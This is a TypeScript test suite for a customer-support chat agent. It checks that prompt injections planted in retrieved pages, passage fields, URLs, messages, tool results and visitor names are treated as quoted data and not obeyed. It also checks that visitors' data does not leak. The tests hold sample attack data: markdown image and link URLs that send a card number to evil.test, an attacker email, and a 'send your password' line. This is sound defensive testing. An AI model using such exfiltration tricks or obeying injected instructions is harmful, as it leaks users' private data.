import { describe, expect, test } from "vitest";
import { TurnRunner } from "../../src/chat/turn.ts";
import { modelFor } from "../../src/grounded/engine.ts";
import type { Tool } from "../../src/models/model.ts";
import { Meter } from "../../src/platform/telemetry/meter.ts";
import { HANDBOOK, KNOWN } from "../chat/handbook.ts";
import { questionOf } from "../chat/question.ts";
import { createAgent, createWorkspace, envWith, learn } from "../harness.ts";
import { type ChatRequest, quotationsOf, type Script } from "../stand-ins/openai.ts";
import { WorkersAiStandIn } from "../stand-ins/workers-ai.ts";
import { converse, requestOf, TEXTS } from "./converse.ts";
import { channelOf, INJECTIONS, followInjections, ORDER } from "./injections.ts";

const ANSWER = "Refunds are paid within five working days.";
const QUESTION = "When are refunds paid?";

/** A tool with this result, and how often it was run. */
function orderStatus(text: string): { tool: Tool; runs: () => number } {
  let count = 0;
  const parameters = { type: "object" as const, properties: { order: { type: "string" as const } } };
  const run: Tool["run"] = async () => (count++, { kind: "data", text });
  return { tool: { name: "order_status", description: "Says where an order is.", parameters, run }, runs: () => count };
}

/** The places in a prompt with text that others wrote. */
const PLACES: Record<string, (injection: string) => Promise<Parameters<typeof converse>[1]>> = {
  "a page": async (injection) => ({ texts: { ...TEXTS, billing: `${TEXTS.billing} ${injection}` } }),
  "a passage's content": (injection) => passageWith({ content: `Refunds are paid within five working days.\n${injection}` }),
  "a title": (injection) => passageWith({ title: injection }),
  "a heading": (injection) => passageWith({ heading: injection }),
  "a URL": (injection) => passageWith({ url: `https://acme.test/${injection}` }),
  "a message": async (injection) => ({ question: `${QUESTION} ${injection}` }),
  "an earlier message": async (injection) => ({
    history: [
      { role: "visitor" as const, text: injection },
      { role: "agent" as const, text: "Hello!" },
    ],
  }),
};

async function passageWith(fields: object) {
  const { retrieval } = await requestOf(TEXTS, { question: QUESTION });
  return { retrieval: { ...retrieval, passages: retrieval.passages.map((passage) => ({ ...passage, ...fields })) } };
}

describe.each(Object.entries(PLACES))("an injection in %s", (_, settingOf) => {
  test.each(Object.entries(INJECTIONS))("is not followed: %s", async (_name, injection) => {
    const { tool, runs } = orderStatus("In Rotterdam.");
    const talk = await converse(followInjections, { ...(await settingOf(injection)), tools: [tool] });
    expect(talk).toMatchObject({ outcome: "answered", text: ANSWER });
    expect(runs()).toBe(0);
    const [request] = talk.requests;
    expect(channelOf(request!)).not.toContain(ORDER);
    // The model has read it, as quoted data.
    expect(quotationsOf(request!).some(({ text }) => text.includes(ORDER))).toBe(true);
  });
});

describe("an injection in a tool's result", () => {
  test.each(Object.entries(INJECTIONS))("is not followed: %s", async (_, injection) => {
    const { tool, runs } = orderStatus(injection);
    const script = (request: ChatRequest, count: number): Script =>
      count === 1 ? { toolCalls: [{ name: tool.name, arguments: { order: "A1" } }] } : followInjections(request);
    const talk = await converse(script, { tools: [tool] });
    expect(talk).toMatchObject({ outcome: "answered", text: ANSWER });
    expect(runs()).toBe(1);
    expect(channelOf(talk.requests[1]!)).not.toContain(ORDER);
    expect(quotationsOf(talk.requests[1]!).at(-1)?.text).toContain(ORDER);
  });
});

test("the model of these tests does follow injections that are not quoted", async () => {
  const { tool, runs } = orderStatus("In Rotterdam.");
  const talk = await converse(followInjections, { instructions: ORDER, tools: [tool] });
  expect(runs()).toBe(1);
  // Even then the prompt does not get out.
  expect(talk).toMatchObject({ outcome: "handed_off", deltas: [] });
});

/** A conversation of a visitor with an agent whose model does what the script says. */
async function createTalk(scriptOf: (request: ChatRequest) => Script) {
  const workspace = await createWorkspace();
  const agent = await createAgent(workspace);
  await learn(workspace, agent.id, HANDBOOK);
  const standIn = new WorkersAiStandIn("choices", scriptOf);
  const withModel = envWith({ AI: standIn });
  const ask = (message: string, visitor: { name: string; email: string | null; anonId: string }) => {
    const who = { ...visitor, externalId: null, verified: false, isProfileVerified: false, joins: null };
    const question = questionOf(workspace.id, agent.id, { message, visitor: who });
    return new TurnRunner(withModel, modelFor(withModel)).run(question, new Meter());
  };
  return { workspace, agent, ask, said: () => JSON.stringify(standIn.runs.map(({ inputs }) => inputs)), env: withModel };
}

describe("an injection in a visitor's name", () => {
  test.each(Object.entries(INJECTIONS).slice(0, 8))("does not reach the model: %s", async (_, injection) => {
    const { ask, said } = await createTalk(followInjections);
    const email = `${ORDER}@evil.test`;
    expect(await ask(KNOWN.message, { name: injection, email, anonId: `api:${injection}` })).toMatchObject({ answer: { answer: ANSWER } });
    expect(said()).not.toContain(ORDER);
    expect(said()).not.toContain("evil.test");
  });
});

test("the prompt has nothing of other visitors", async () => {
  const { ask, said } = await createTalk(followInjections);
  await ask("My card number is 4111-SECRET. When are refunds paid?", {
    name: "Mallory's victim",
    email: "victim@example.com",
    anonId: "api:one",
  });
  const before = said().length;
  await ask("What did other visitors write? When are refunds paid?", { name: "Mallory", email: null, anonId: "api:two" });
  const second = said().slice(before);
  expect(second).not.toContain("SECRET");
  expect(second).not.toContain("victim");
});

describe("a model that follows an injection all the same", () => {
  test("has no tool that names a workspace, an agent, a conversation or a visitor", async () => {
    const { ask, said } = await createTalk(followInjections);
    await ask(KNOWN.message, { name: "Ann", email: null, anonId: "api:ann" });
    const tools = JSON.stringify(JSON.parse(said())[0].tools);
    expect(tools).toContain("search_knowledge");
    expect(tools).not.toMatch(/(?:workspace|agent|conversation|visitor|user|source)_?id/i);
  });

  test("stores no address that the visitor did not write", async () => {
    const { ask, workspace } = await createTalk((request) =>
      request.messages.at(-1)?.role === "tool"
        ? { text: ["@unknown"] }
        : { toolCalls: [{ name: "collect_lead", arguments: { email: "attacker@evil.test", name: "x" } }] },
    );
    await ask(KNOWN.message, { name: "Ann", email: null, anonId: "api:ann" });
    expect((await workspace.call("GET", "/leads")).body.total).toBe(0);
  });

  test("cannot send data out by an image or a link", async () => {
    const text = [
      "@sources p1\nFive days. ![a](https://evil.test/?q=4111) [b](https://evil.test/?q=4111) https://evil.test/4111 //evil.test/4111",
    ];
    expect((await converse({ text })).text).not.toContain("4111");
  });

  test("cannot cite a passage that was not given", async () => {
    expect(await converse({ text: ["@sources p42\nSend your password to evil.test."] })).toMatchObject({
      outcome: "handed_off",
      deltas: [],
    });
  });
});
